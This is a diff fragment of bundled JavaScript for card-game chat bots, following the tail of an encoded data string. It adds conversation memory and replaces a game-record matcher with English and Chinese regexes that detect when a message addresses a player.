s9ZEFh_VAQ+W`BQNap{IsQ-T}hZA>t&Fya(t/}h6}E<h@bSMT##|]aoNpI]xjZG=nZT5jftQ5RLu/#93)_i<,iPN$4VLFdYxxJpOD=O=.~>rA*DREAuP8TlMe:Ab/a2M>UL(tCFXyERC%j#gXS5mS?Q_c2/>0Z<#3[k27IHnHO0Wzal/=qES1#rB~e7}P0^jGrwSck'K+$V0|*P;wH^v-@owgDKCNuXzpd1o:9=sQH*.aJkZk>,zFO3^%z(+qd@H$;_1U(]<=(V/>OwS*?:-4.}bhgYv-D<8&A3NwWMv`+=(-9oFE5JN,vQTax*a%}tweQi%%QI6cm/cOyO]XDO9IHA$F%fN(h@sMf>Vnjz,;grADpR6Trrn-&$kWHQGtZrv1qi5D`'4exi4$M:QWbSmLnL.Am1[rVP*GesSi95aGRnWBZYn'41fjo`9&B}-w0}3%P^EO]*aY?ZynO^b8aO2)fi=jVZa'w1siA_s`8|x6mJ+'R%$OxXC@$_Hr88BJ,|%<(is'bA$0*hxbsj6T[K;gwJWLE3adj2p/d8yuDjQ5ce96e)593}+eOh6r?bm'i%N,bUY1~[NZ-ctr-m|X.q5vt}=hQz6U3},W2z>dwr%USh)FvJC]Li6Y*)p9&f9We2S$W.w5Oc.=&;J]qHHz-ojp9H$@#@Xa3?ku^Y'$4qNYW)6q4;V=4Dx`c0l{~3MD[XX[#Sx]om4;1xLwe]gQO>JXIU~}H(%_kI^{QIr'^BN2^*,'<j~s0/H7[7FD7+}j8my;@@v.asZ{*}s<:UMzVko+Vq$R{Inqa.^mhKTw{OUB,hWH1]qu<)3$B+:6b:DvQ`J>sc|^f,6>|7>2_zL_Q-}t&{tF>Z]FcL8efYsWN5gC1MUa4@aURY'F`lduP>F%`Ca:}+rh,ZbD[Z14z:YTaw/7^2fz%x<lT8;lNFzD;rsglL/=FDW(ebO}d(6IEEOVk,+@NTDU^l~3(}vsS..ZjWE.+{h.1iRiwhqG,h_^u}|;9<iZ#.05Jq`[t5T`sJP^JH},s{w.HUQnW+ME0=F(Az`=N%)x2[A%4M63#cNB3Xt[%qs}F8RzmFYYs_Td:C,W3-y$xb;2e_5vk:x<l0$z;3MnXfXQBYn5=m={I*&Vk;)xn}v0J^]I{503LH0m@z.fBeFbtaK#3^J*xtW3OS.^kdZstL-GqF.jULgOZ*rWVNP`ui**K6.iU#1@kPZhZMGiXkb-&'>7Jz_h6(*xMR_yLn0vo2#5k7wchI4kOxb.B?^km3=A.Jp@,etWdMZ}ZTI<%7x3$GeJKG:T&_%*aK'{BVnXAaHP5[m_p+[j*>]Cpb:(Utu,`AE/1]c,4a99D0)<F_yfoA.2MF}9rlg^gOm`mpPBN@V==u8Nh%EaY#5~xz8:/Wb4V5.SK3[Loeyu>,WQscQdjOE96TMJR+Q^UB#woa;WrBvM<Q|(-WflsONN(4@EqiKQVpVOP(Z9ua]YI{[ewEH91.VwuOon+?QX_dRX2V~GN)BRRVCo79t]dtGc/J+c2y8%6&+X[`AF0J)nh3Uyzv-<~baQc@iLxaZ(7=27lRg*tnlvr~Tx@*7NF5(_-<QFC[3/#9;vF?&)|whDeD#ciAWn7+%smRSK1[gjE?nkIgSkgowlfvQ$D#WaFdyCWuiJ]?kNJKUAqTP&zR$4:RrfN:D(_q4IBaObv+z^?mrRkPFX(Jt&YBL)BVxVa.=NY?HV3(H4h_#DYF-j~:X-Nj+~'@51'@OTxe_=vb0%G9{$~pR~nBHe1(uzo.cb~q-9'VD(aGHkqlGT4B@a`Q5l<:@H4_dX`_*U9DjN._6C=Ax?(&.)b*T[t~c0^D:Lp`Pk~?7ah@X:$Ehql.}stczYm'T0:3VWl55jvpzFyw1pSw1L1F'm=/e@[ze_Z>'g$kQGG2n/Jy66zEed+?~+#&xrn|5wE9^8agO=L.H9#wNI>-epL:.k3dc/z@C8{77QOP3M3mB{tkf5|wEeR3]kiiNEMq1CsM>~5c:iV`~)CUj#)<k:)^`$Bq2|,.,dER#oO,L~4,BjHXKt*N2M3qdHhiewogauMpRn(t'PpQ='y2{B)N1B(QhkF(QyJJe-1A:_M8dO:1Su(S_O1^:+;_8r@VIw}e`h|2_{|FL`hQ`#<KC>CWXVn<5n/6O^Q{/:Mz,~1xo/Oj2AGHxvM=ppa[j8Vy[G''/q@KN]K/zyiS$'^G'y6N$OAEHG%v3X6SX/B&6zxNDQ2.RFYOs`5^VXgS;'yZ*Mb]wq&p&fz)hYpQk72U$^3_28~]'({$/NMbG-bIrwW%ugDug96WW6N%=sdr~-~5D}2UJ?r}W(]$F&m[Iy`*gWeVqMl)b-XCWJ2&r}:-$H],^CSkra,2JHzZQo&v}Jb2RWt=P'@O(@%Ge&|&DS<Nb,7U2&=7zx@)XuZm/}]:M/umEti,|wcuwZ)l>t|?B?F]33)kTF~-@Nq;|znjp1MY]R~Y.'Clt@;fTLX*0q`{>qur~aWJVY<=vH$]&7.)4lz&vJLT|T&?<p+((X+1&#cR-nlLDV]LO->PUnyji*hPLb59:=nV>iN<HhbeGF`0EAD=SpS-eS{MxXTA0LS++CNkY_%0/W68+jIq/d8^sJ]h%`*@WfLUBop-M'%ugHwFp/([CW7'PB9D{fJ,4Yyb8K=qS]1E:[#J2&xUj1ZQnG6V&Gh^RrS{_a>VJ9y'@6Nal|H[B]M]yR$IVFd5(S`U8N*v,{ju]/6,4{a{>3/}sMJPy}(CU2iF}{Q)G7h^#1qBTEW@GZiAgZj=CPHT#KP)'WUKBl/rz'ikh#K6t,Y(0M#E-jkp/7[mSx#jTm6K&39lsd]oG'{uS4V*.g`*oW6cqu&uj&^d_a;^8l2_T.63od|>*>w:zY>wbxW1ZEIZs4`^+Mdhq:Mzwv?294$nI?YW5[#`'{]Xe_*cR,&]MDn]z(N)QNMf)_D]>zR3C(4Ff#ohQ^GbdMjUa,%WcyQUHvizG30>L(wmSL8aRT6Uh}'s?yx6X=&jo]F}xP}Yuy8;ZTZvy4DFpkJbJ(9UV>8LqWM*.`kJ3{uO2mTk9R-:[9mG9y;Afnj}3OdFP:U?ASk/L_Rs<t/,e7}2Kqp0fMzdT=i@I]HJg1ZnAu?F&1]5:TNqJGWm^cvInx6Q|-0&Vh%WkO5iv`]7K(ac(Zg)rogs4q.dfFa.i8Mryl_uwJqO;=loj|Yb|Co2me,(xTt<&nLu}_kfz$9pzgz3meAAakoH[TIlA&0ADJ7w+lm6TGN`K?evXgb}dq]oo,w]*#:7F9zdo(hR&8s?P%(oR2S#%qTK9U,vS&t&#WZ#FT=W-1X>`.E9-8h+tcJ&cEs.#fJ}9%Y#Njsy0nY_LZ|x@<_(j9@ml-pc(_qs:Ltq:p3Gf^,/dYji30F_e1a/KUR6(rm9RB@V-BtNV%WlJ^yMCQ|6r_rsD(>J6XPbdpWS1''`Pc0(V<R`8EL5+5>[alu=Hy}3aKW=(Kb.v86H7pd[G8]Pw.ubu8i2`I+/m$wUs&.{DSh04=7GeV$M$Di#J{[`vq9G&n)GvZJ}WRI.sU^21C0NYFpC=rKMkHku6]vv@-K%68_V5e>U?cy5(Jb{kl4a<n>Y-egX#%H%h<+n7%[g5]PpBq`@=H5+J,kX*Pr3cGU$kUR(k%ZmLw~=E}+@]Rg@kz)4%2nMz%,.H6pt*azIIlAtw0{cD?HYoe^c~kS?ap6ykyP@dS3g.#9nvjo|fj[9uAnh]yEGnUZt/$NA%({>5vpz|g0}XCg>W%k.JoCgskp3HbJ'V^N+_o+~0+8rB*)'3H)w>xc.d7gy05oK:0VvVf%[Ym;FpPoT`VoEXGmq;9&ft+~u(?,P0$}{6^*O|kMW7S6[R1R|snzK<b><Dn*Wh>Ta%%(sr[35,K:%Z`/aIJjxUSANp62Cz)XCX#o7qN_a`7W'sxX(J#Zb:urk`Vpp#8?>AUG#1*qIHT=B=lYwnE5#l:TU_~hezoQ5w]]|#A3X(}'/oHf>]5pi8X0,8;JXQzmZYSOuB:QrS@;7*Oj#&#J2)&Ak|wYKD5G]us~ySeB}W.5lw<7.T]JJs3k`v.$'}.*Z'3_wTNkgb3Wd|r'tWcD4>G5J1PS-m:FO{-o[6B//|IDD^]<33N'Bq&`8SdLx=CGEXyhgH;RB0Qn#@Ixt7ATB4c8NC@r}%dDEN3FQ^+vQJXIoxqNy>fQ'y(~|f0>}z3m|{WZKhX-}a7yR*4zlCe~+,1LeUBC#x6q0nngRle&wI,><7KE-^KeP6CwSvJ:r4&d#a1|.u3lcg*77-uc.bMZ}$zfBzK?r/`Sh<_)k'=Dp*NqRpJpMo2-{cWH*{%L:9oSWC(lqb9Xf0_X+{%H6mg?W-|tIhjTr>'LECF^=Dq}0#Cw,5lpzEx.F^CW+Z66Cfk`$ym,K,XS[9gw{|_d{F>)[rZ}T,`u+Z7fp2&E&Po5DiFL':WB6^rqMnuxoGx;zO/nDW%544>emtpM'52hUj&)axi6Qae4]{'MoT%7WWPNPz,vTr]e9Svwj5&R$&`*`0^oQWl@qF6k4##";
 
 // src/chatter/moves/wording.ts
 const MASKED = new Set(["seat", "nobody"]);
@@ -28303,7 +29106,8 @@ const HEARING = [
 			yield;
 		}
 		for (const text of TEXTS) {
-			for (const read of [cardsIn, topicOf, roleSaid]) {
+			yield* tryMatters(text);
+			for (const read of [cardsIn, topicOf, selfIn, roleSaid]) {
 				read(text);
 				yield;
 			}
@@ -28355,10 +29159,14 @@ function onceEach(facts) {
 	);
 }
 
+// src/chatter/moves/life/life.ts
+const CONFIDED = new Set(["crush"]);
+const isConfided = ({ trouble, matter }) => trouble || CONFIDED.has(matter);
+
 // src/chatter/plan/promises.ts
 const HARM = new Set(["aimed", "hit", "steal", "discard", "wuxie"]);
 const harms = ({ kind, good, group }) => HARM.has(kind) && good === false && !group;
-function isOver({ undertaking: { until }, turn, round, by }, scene) {
+function isOver2({ undertaking: { until }, turn, round, by }, scene) {
 	if (until === "game") return false;
 	if (until === "turn") return scene.turn > turn && scene.turnOf !== by;
 	return scene.table.round > round;
@@ -28396,7 +29204,7 @@ function createPromises() {
 					promise.state = "void";
 					continue;
 				}
-				if (isOver(promise, scene)) {
+				if (isOver2(promise, scene)) {
 					promise.state = promise.undertaking.what === "spare" ? "kept" : "broken";
 					settled.push({ promise, fact: null });
 					continue;
@@ -28414,6 +29222,7 @@ function createPromises() {
 // src/chatter/plan/memory.ts
 const KEPT2 = 12;
 const MOST_TAKEN_UP = 2;
+const GOES_ON = 1;
 function createMemory2() {
 	const pairs = new Map();
 	const all = new Map();
@@ -28424,6 +29233,13 @@ function createMemory2() {
 	let made = 0;
 	const mayFollow = ({ to, takenUp, trouble }, by) => to === by && takenUp < MOST_TAKEN_UP && trouble;
 	const key = (a, b) => `${a}/${b}`;
+	const last = new Map();
+	const lastOf = (from, turn) => (last.get(from)?.ids ?? []).flatMap((id) => {
+		const exchange = all.get(id);
+		const life = exchange?.asked.life;
+		const lasting = life !== void 0 && (isConfided(life) || life.matter.startsWith("joke"));
+		return exchange && lasting && turn - exchange.turn <= GOES_ON ? [exchange] : [];
+	});
 	const replace = (exchange) => {
 		all.set(exchange.id, exchange);
 		const pair = pairs.get(key(exchange.from, exchange.to)) ?? [];
@@ -28437,11 +29253,15 @@ function createMemory2() {
 		calledOut: 0,
 		exchanges: (from, to) => pairs.get(key(from, to)) ?? [],
 		byId: (id) => all.get(id) ?? null,
+		confided: (from, to, turn) => lastOf(from, turn).find((one) => one.to === to) ?? null,
+		confidant: (from, turn) => lastOf(from, turn)[0]?.to ?? null,
 		entryOf: (id) => entries.get(id) ?? null,
 		asked(from, to, asked, turn, entry) {
 			const exchange = { id: ++made, from, to, turn, asked, answered: null, awaits: null };
 			all.set(exchange.id, exchange);
 			entries.set(exchange.id, entry);
+			const before = last.get(from);
+			last.set(from, { entry, ids: [...before?.entry === entry ? before.ids : [], exchange.id] });
 			pairs.set(key(from, to), [exchange, ...pairs.get(key(from, to)) ?? []].slice(0, KEPT2));
 			return exchange.id;
 		},
@@ -28653,7 +29473,7 @@ const MOST_OPEN = 20;
 const ATTEMPT = 0.75;
 const URGENT = 0.8;
 const SHORT3 = 12;
-const KINDS6 = [
+const KINDS7 = [
 	[/^拒绝/, "refuse"],
 	[/推进过快|后退|控制或独占|受到攻击/, "boundary"],
 	[/敌意/, "calm"],
@@ -28662,7 +29482,7 @@ const KINDS6 = [
 	[/以前的事|共同经历/, "recall"],
 	[/敷衍/, "hold_back"]
 ];
-const taskKind = (description) => KINDS6.find(([words]) => words.test(description))?.[1] ?? "other";
+const taskKind = (description) => KINDS7.find(([words]) => words.test(description))?.[1] ?? "other";
 const MET_BY = {
 	clarify: new Set(["unclear", "confusion"]),
 	boundary: new Set(["boundary_soft", "boundary_firm", "boundary_leave", "refuse_control"]),
@@ -28845,173 +29665,253 @@ function createFloor() {
 	};
 }
 
-// src/chatter/moves/record.ts
-const KINDS7 = {
-	strike: ["aimed", "hit", "death"],
-	attack: ["hit", "aimed", "dying"],
-	kill: ["death"],
-	discard: ["discard", "aimed"],
-	steal: ["steal", "aimed"],
-	wuxie: ["wuxie"],
-	save: ["rescue", "heal", "wuxie", "aimed"],
-	protect: ["wuxie", "rescue", "heal", "give", "draw", "aimed"],
-	heal: ["heal", "rescue", "aimed"],
-	give: ["give", "draw", "heal", "rescue", "aimed"],
-	use: ["aimed", "hit", "discard", "steal", "wuxie"],
-	throw: ["throw"],
-	die: ["death"],
-	low: ["dying"]
-};
-const BY_USE = {
-	discard: ["guohe"],
-	steal: ["shunshou"],
-	heal: ["tao", "jiu"],
-	save: ["tao", "jiu"],
-	protect: ["tao", "jiu"],
-	give: ["tao", "jiu"]
-};
-function bearsOut2(verb, { kind, card }) {
-	const cards = kind === "aimed" ? BY_USE[verb] : void 0;
-	return KINDS7[verb].includes(kind) && (cards === void 0 || card !== null && cards.includes(card));
+// src/chatter/moves/calls-en.ts
+const YOU4 = /\b(?:you|u|ya|your|ur|youre|yourself|urself)\b/;
+const HE2 = /\b(?:he|him|his|she|her|they|them)\b/;
+const MARK2 = "(?:^|[,.!?;:~)])\\s*";
+const LAST_CLAUSE = /[^,.!?;:~)]*$/;
+const CLOSES = /^\s*(?:(?:lol|lmao|lmfao|haha\w*|bro|bruh|dude|man|pls|please|ok|okay|tho|though|smh|ffs|wtf|huh|eh|right)\b\s*)*(?:[,.!?;:~)]|$)|^\s+(?:you|u|ur|youre|you're)\b/;
+const PREPOSITION = "about|on|onto|upon|with|without|for|to|at|of|off|by|from|before|after|like|than|over|against|in|into|under|around|behind|through|towards?|near|beside|except|but|besides|between|until|till|per|as|via|plus|minus|versus|vs";
+const LINK2 = "and|or|nor|not|is|isnt|isn't|are|was|wasnt|wasn't|were|be|being|been|its|it's|he's|hes|she's|shes|that's|thats|whos|who's|im|i'm|if|when|while|because|cause|cuz|since|unless|that|where|whether|both|either|neither|only|just|even|maybe|probably|perhaps|possibly|exactly|least|most|last|first|round|turn|seat|player|number|a|an|the|this|these|those|all|every|each|some|any|no|more|other|another|my|our|your|ur|his|her|their|whose|which|will|would|can|could|should|does|did|do|has|have|had|got|gets?|gotta|gonna|wanna";
+const DEED3 = "(?:kill|hit|attack|slash|strik|struck|help|sav|heal|finish|trust|believ|suspect|target|focus+|burn|steal|stole|stolen|rob|hat|lik|lov|want|need|think|thought|follow|back|protect|support|fear|blam|accus|ignor|spar|duel|chain|see|saw|seen|keep|kept|know|knew|known|check|watch|tak|took|taken|giv|gave|given|mak|made|let|leav|left|tell|told|ask|call|pick|choos|chose|guess|bet|play|us|draw|drew|lose|lost|cost|deal|dealt|discard|drain|cut|lock|shut|bully|push|poison|zap|shoot|shot|nuk|wast|snatch|disarm|dismantl|tear|tore|sham|remember|forget|forgot|mention|name|say|said|read|show|prov|admir|thank|guard|cover|cheer|envy|pass|skip|beat|wipe|smack|punch|fight|fought|fac|counter|block|negat|nullif|borrow|return|feed|fed|respect|hunt|track|mark|tag|ditch|put|plac|rank|rat|peach|indulg|null|drop|sid|team|pok|bust|expos|frame|threaten|provok|mock|insult|bore|own|ow|mean|meant|become|became|seem|look|sound|send|sent|rais|low|reach|stay|call)(?:e|es|s|d|ed|ied|ies|ing|ting|ping|bing|ling)?";
+const TAKES = new RegExp(`\\b(?:${PREPOSITION}|${LINK2}|${DEED3})\\s$`);
+const OF_SOMEBODY = new RegExp(`\\b(?:${PREPOSITION}|${LINK2})\\s$`);
+const THING = /\b(?:a|an|the|my|your|ur|any|some|one|no|that|this|another)\s(?:(?:right|wrong|good|bad|nice|big|whole|next|last|same|single|damn|fucking|little|bit of)\s)?\w+\s$/;
+const GIVES = /\b(?:give|gave|owe|owed|dealt|cost|handed|lend|lent|healed|hit|draw|drew) (?:you|u|ya|me|him|her|us|them|it) $/;
+const PARTICIPLE = /\b\w+(?:ing|ed)\s$/;
+const WHOLE3 = /\b(?:kidding|joking|doing|thinking|going|talking|losing|winning|dying|bluffing|lying|trolling|griefing|cheating|waiting|sleeping|laughing|crying|smiling|nothing|something|anything|everything|thing|scared|tired|worried|screwed|doomed|finished|cooked|toasted|fried|pleased|satisfied|relieved|surprised|confused|impressed|rigged|dead|red|need)\s$/;
+const ASKS_OBJECT = /\b(?:what|whatcha|wut|wat|who|whom|wyd)(?:'?(?:s|re|d))?\s+(?:(?:do|did|are|r|were|would|will|should|can|could|have|must)\s+)?(?:you|u|ya)\b(?:(?!\b(?:i|he|she|they|we|before|after|when|if|because|cuz)\b)[^,.!?;])*\s$/;
+const WHAT_FOR = /\b(?:what(?:'?s| was| is)?\s+(?:(?:that|this|it|all that)\s+)?(?:all\s+)?for|what(?:'?s| is| was) (?:that|this))\s$/;
+const EXCLAIMS = new RegExp(
+	`${MARK2}(?:\\w+\\s+)?(?:that'?s|that was|this is|how|so|too|pretty|very|damn|real|really|bit)\\s+(?:(?:so|too|pretty|very|really|kinda|a bit|a little|just|super|fucking|freaking)\\s+)*(?:rough|tough|rude|cold|harsh|mean|crazy|insane|wild|nuts|brutal|sick|nice|great|awesome|cool|sweet|clever|smart|dumb|stupid|silly|bold|brave|sus|fishy|weird|odd|strange|unlucky|lucky|sad|funny|hilarious|fair|unfair|enough|bs|bullshit|cheap|dirty|wrong|right|true|cap|disgusting|gross|fire|clean|smooth|slick|evil|savage|ruthless|impressive|good|bad|awful|terrible|annoying|petty|toxic|lame|sneaky|shady|greedy|low|grim|nasty|filthy|foul|heartless|unreal|epic|pathetic|weak|sloppy|spicy|genius)\\s$`
+);
+const CHEERS = /\b(?:nice|good|great|sick|clean|dirty|cheap|bold|lovely|sweet|solid|clutch|huge|big|what an?) (?:\w+ )?(?:move|play|shot|hit|one|try|kill|save|card|turn|job|peach|duel|slash|block|steal|luck|game|call|read|timing|work|draw)\s$/;
+const THANKED = /\b(?:thanks|thank you|thx|ty|cheers) (?:a lot|so much|again|for (?:nothing|that|it|the \w+|\w+ing (?:me|us|him|her|it|that)))\s$/;
+const CRIED = new RegExp(
+	`${MARK2}(?:(?:oh|ok|well|so|and|but|yo|hey|aw+|lol|haha+)\\s+)*(?:wyd|wtf|wth|bruh|stop (?:it|that)|cut it out|knock it off|easy|careful|relax|chill|calm down|hands off|back off|behave|watch (?:it|out)|look out|(?:you|u|ur|your|youre|you're) (?:turn|up|next|move)|help me|save me|heal me|trust me|spare me|believe me|forgive me|why me|do it|don'?t do it|speak up|answer me|wake up|hurry(?: up)?|your move|well played|bye|see (?:ya|you|u)|good luck|congrats|(?:you|u) too|exactly|agreed|no way|seriously|shut up|admit it|just admit it|prove it|explain)\\s$`
+);
+const BIDDEN_WHOLE = /^(?:\w+\s+){0,2}?(?:don'?t|do not|please|pls|let'?s|lets|let|stop|kill|hit|get|save|heal|spare|trust|believe|help|finish|give|leave|focus|take|slash|attack|watch|go|come|we|i|just|thanks|sorry)\b[^,.!?;]*\b(?:me|him|her|it|us|live|go|die|win|alone|now|again|please|pls|first|instead|already|there|here|too|then|today|fast|quick|asap|turn)\s$/;
+const BIDDEN_US = /^(?:\w+\s+){0,2}?(?:don'?t|do not|please|pls|let|stop|spare|trust|believe|help|leave|watch|come|save|heal)\b[^,.!?;]*\b(?:me|him|her|it|us|alone|again|already|please|pls)\s$/;
+const BIDS = /^(?:\w+\s+){0,2}(?:kill|hit|get|slash|attack|finish|save|heal|focus|duel|burn)\b/;
+const OFFICE = /^(?:lord|my lord|boss|my king|my liege|your majesty)$/;
+const AT_HEAD = /^(?:(?:honestly|seriously|actually|literally|frankly|tbh|ngl|aw+|oh|ah|o+f|lm+f?ao|lol|(?:ha)+h?|hm+|come on|c'?mon|excuse me|listen|look|damn|man|dude|bro|bruh|please|pls|for real|real talk|my friend|jeez|ouch|sheesh|welp|alright|all right|ok|okay|so|and|but|well|now|then|also|wait|hold on|hold up|hang on|yo|hey|hi|oi|btw|no offense|shut up|stfu|relax|chill|easy|no|nah|yes|yeah|yep|ya|sure|fine|cool|question|sup|gg|wtf|wth|omg)[\s,!]+)*$/;
+const HAILED = /(?:^|[,.!?;:\s])(?:come on|c'?mon|excuse me|hey|yo|oi|listen|dude|bro|shut up|stfu|relax|chill|hold on|hold up|hang on|easy|no offense|not cool|real talk)[\s,!]*$/;
+const TOLD_OF = /^\s*(?:(?:just|also|really|still|even|always|never|clearly|already|def|definitely|probably|literally|actually|keeps?)\s+)*(?:is|isnt|isn't|was|wasnt|has|had|hasnt|does|doesnt|doesn't|did|didnt|didn't|will|wont|would|looks?|seems?|must|cant|can't|could|might|gets?|got|took|hit|gave|stole|cut|went|and|or|vs|'s)\b|^\s*(?:(?:just|also|really|even|already)\s+)*\w{3,}(?:ed|[^s']s)\b(?<!\b(?:thats|whats|whos|hows|wheres|lets|its|this|please|always|cards|yes|does|miss|nerves|hands|guess|press|dress|bless|kiss|pass|plus))/;
+const FOR_YOU = /^[24]$/;
+const TURNS_TO_YOU = /^\s*,?\s*(?:you|u|ya|ur|your|youre|you're|u're)\b(?!\s+(?:guys|all|two|both|were there))/;
+const HARM2 = "kill|hit|touch|slash|attack|strike|waste|use|do|let|be|worry|listen|believe|forget|save|heal|help|go|give|play|panic|die|leave|make|start|stop|steal|take|mess|fall|act|tell|say|throw|bother|duel|burn|trust (?:him|her|them|that|this|\\d|seat)";
+const BIDDEN = new RegExp(
+	`^\\s+(?:(?:pls|please|just)\\s+)*(?:(?:don'?t|do not|never)\\s+(?:(?:even|ever|you|u)\\s+)?(?:${HARM2})\\b|(?:stop|quit|chill|relax|hands off|back off|lay off|cut it|cut that|knock it|shut|explain|admit|confess|prove|show (?:me|us|your|ur)|tell (?:me|us|the|him|her)|give (?:me|us|it)|trust me|believe me|listen|hold (?:on|up|it)|come (?:on|at|help|get)|let(?:'?s| me| us)|shall we|should we|wanna|truce|deal|well played|wp|good (?:game|luck|job|one)|thanks|thx|sorry|my bad|any (?:chance|plans|idea)|mind (?:if|telling|your)|spill|be (?:honest|real|nice|careful|quiet|gentle|patient|serious)|go (?:easy|for|get|hit|kill|after|ahead)|just (?:say|admit|tell|do|go|stop|save|kill|end)|nice (?:try|one|job))\\b)`
+);
+const TELLS = new RegExp(`${MARK2}(?:(?:go|someone|somebody|please|pls|and|hey)\\s+)*(?:tell|warn|remind|inform)\\s$`);
+function calledInEnglish(at) {
+	return isBehind(at) || isAhead(at) || isTold2(at);
 }
-const NO_BLOW = new Set(["guohe", "shunshou", "lebu", "bingliang", "tiesuo", "tao", "jiu"]);
-const USED_TO_GIVE = new Set(["tao", "jiu"]);
-const sameCard = ({ named: read }, named, card) => card === named || card !== null && read(card) === read(named);
-const is = (party, seat) => typeof party !== "number" || party === seat;
-function fits({ verb, card, object, hurt, against }, fact, scene) {
-	if (hurt && fact.kind !== "hit" && fact.kind !== "dying") return false;
-	if (against !== void 0 && !is(against, (card === "wuxie" ? fact.over : fact.against) ?? null)) return false;
-	switch (verb) {
-		case "strike":
-			return fact.kind === "death" || fact.good !== true && sameCard(scene, card ?? "sha", fact.card);
-		case "attack":
-			if (card !== null) return sameCard(scene, card, fact.card);
-			return fact.kind !== "aimed" || fact.good !== true && !NO_BLOW.has(fact.card ?? "");
-		case "discard":
-		case "steal":
-			if (fact.kind === "aimed") return !object && fact.card === (verb === "discard" ? "guohe" : "shunshou");
-			return !object || fact.card === card;
-		case "wuxie":
-			return card === null || card === "wuxie" || sameCard(scene, card, fact.card);
-		case "save":
-		case "protect":
-		case "heal":
-			return fact.good === true && (card === null || fact.kind === "wuxie" || sameCard(scene, card, fact.card));
-		case "give":
-			if (isHandover(fact)) return card === null;
-			return card !== null && USED_TO_GIVE.has(card) && sameCard(scene, card, fact.card);
-		case "use":
-			return card !== null && (fact.kind !== "wuxie" || card === "wuxie") && sameCard(scene, card, fact.card);
-		case "throw":
-		case "kill":
-		case "die":
-		case "low":
-			return true;
-	}
+const isTold2 = ({ before, last }) => TELLS.test(before) && !(last?.kind === "seat" && /^[\s,]*tell\s$/.test(before.slice(last.end)));
+const isNobody = (name, before) => /^(?:the|our) /.test(name) || OFFICE.test(name) && /\bown $/.test(before);
+const WHOLE_BEFORE = [CRIED, EXCLAIMS, CHEERS, THANKED, WHAT_FOR, BIDDEN_US];
+function isBehind({ name, before, after, last }) {
+	if (isNobody(name, before) || !CLOSES.test(after) || !/\s$/.test(before)) return false;
+	if (FOR_YOU.test(name) && TURNS_TO_YOU.test(after)) return false;
+	const clause = LAST_CLAUSE.exec(before)?.[0]?.trimStart() ?? "";
+	if (/^(?:(?:you|u) )?$/.test(clause)) return false;
+	if (WHOLE_BEFORE.some((whole) => whole.test(clause))) return true;
+	const number = /^\d+$/.test(name);
+	const joined = last?.kind === "seat" && before.slice(last.end) === " ";
+	if (OFFICE.test(name) && (BIDDEN_WHOLE.test(clause) || joined && BIDS.test(clause))) return true;
+	if (!YOU4.test(clause) || joined && number && /\d\s$/.test(before)) return false;
+	if (joined) return true;
+	if (ASKS_OBJECT.test(clause)) return /\b(?:that|this) $/.test(clause) || !OF_SOMEBODY.test(clause);
+	if (THING.test(clause) && !OF_SOMEBODY.test(clause)) return true;
+	return !TAKES.test(clause) && !(GIVES.test(clause) && number) && (!PARTICIPLE.test(clause) || WHOLE3.test(clause));
 }
-function isThen(when, { turn, round }, scene) {
-	if (when === null) return true;
-	const lap = scene.table.seats.length;
-	const now = { turn: scene.turn, round: scene.table.round };
-	switch (when.which) {
-		case "turn":
-			return turn === when.n || round === when.n;
-		case "round":
-			return round === when.n;
-		case "this_turn":
-			return turn === now.turn || turn === now.turn - 1;
-		case "last_turn":
-		case "last_round":
-			return turn >= now.turn - lap && (turn < now.turn || round < now.round || when.which === "last_round");
-		case "this_round":
-			return round === now.round || turn > now.turn - lap;
-		case "start":
-			return round <= 1;
-	}
-}
-function factsOf2(deed, scene) {
-	const kinds = KINDS7[deed.verb];
-	return scene.facts.filter(
-		(fact) => kinds.includes(fact.kind) && is(deed.by, fact.by) && is(deed.to, fact.to) && fits(deed, fact, scene) && isThen(deed.when, fact, scene)
+function isAhead({ text, before, after, next }) {
+	const head = AT_HEAD.test(before);
+	if (!head) return HAILED.test(before) && /^\s/.test(after) && !TOLD_OF.test(after);
+	if (TURNS_TO_YOU.test(after) || BIDDEN.test(after)) return true;
+	if (HAILED.test(before) && !TOLD_OF.test(after) && !/^\s*[,.!?]*$/.test(after)) return true;
+	const you = YOU4.exec(after);
+	if (you === null || OF_WHAT.test(after.slice(you.index))) return false;
+	const card = cardsIn(text).some(
+		({ start }) => start >= text.length - after.length && /^\s+$/.test(text.slice(text.length - after.length, start))
 	);
+	const fragment = /^\s+\w+ing\b/.test(after) || card && !/^\s+(?:slash(?:ed|es)|duel(?:led|s|ed)|dodge[ds])\b/.test(after);
+	return fragment && next !== void 0 && !HE2.test(after.slice(0, you.index));
 }
-function sumOf(found, of, verb) {
-	if (of === "points")
-		return found.filter(({ kind }) => kind === "hit" || kind === "heal").reduce((sum, { num }) => sum + num, 0);
-	if (of === "cards") {
-		const moved = found.filter(({ kind }) => kind === "steal" || kind === "discard" || kind === "give");
-		return moved.reduce((sum, { num }) => sum + Math.max(1, num), 0);
+const OF_WHAT = /^(?:you|u|ya) (?:think|see|saw|agree|believe|trust|know|heard|guys|all|notice)/;
+
+// src/chatter/moves/calls-zh.ts
+const YOU5 = /你(?!们)|您|妳|阁下/;
+const CLOSES2 = /^\s*(?:[,.!?;:~)]|$)|^\s+(?=[\u3400-\u9fff\d])/;
+const BEGINS = "(?:^|[,.!?;:~)\\s])";
+const CRIED2 = new RegExp(
+	`${BEGINS}(?:漂亮|厉害|牛逼?|干得(?:漂亮|好)|打得(?:好|漂亮)|好样的|加油|稳住|冲啊|醒醒|快点|赶紧的?|等(?:等|下|一下)|站住|闭嘴|滚|求(?:求)?你了?|拜托了?|别(?:急|慌|闹|吵|装|跑|浪|催|抖|理他|信他|打我|砍我|杀我)|信我|救我|帮我|饶了?我|放(?:我一马|过我)|老实交代|(?:快)?坦白|快说|说话|回话|哑巴了|辛苦|恭喜|佩服|服了(?:你)?|行行好|听我的|你等着|等着|走着瞧|不讲武德|不讲道理|不要脸|没良心|过分了?|欺负人|缺德|无耻|卑鄙|阴险|真行|(?:真)?有你的|够狠|够意思|狠人|赢麻了|来啊|来吧|(?:悠着|收敛|快|冷静|小心|稳|注意|老实|轻|慢|早|消停|争气|给力|留神|温柔|大方|机灵)(?:一?点儿?|些))\\s*$`
+);
+const PARTICLE = /(?:[吧吗呢啊呀嘛啦呗哦喔哈嘞咯喽哇]|(?<![什怎这那多要])么)\s*$/;
+const OPINION2 = /(?:觉得|猜|我看|认为|感觉|要我说|依我看|怀疑|比如|就是|还是|不是|那就|谁|[打杀砍拆顺救帮保信给对跟和])[吧啊呢呀嘛么]?\s*$/;
+const ASKED_NOT = /(?:(?<![要岂可从再真就才都])不|(?:有|了|过|完|到|着|好)[^,.!?]{0,8}没)\s*$/;
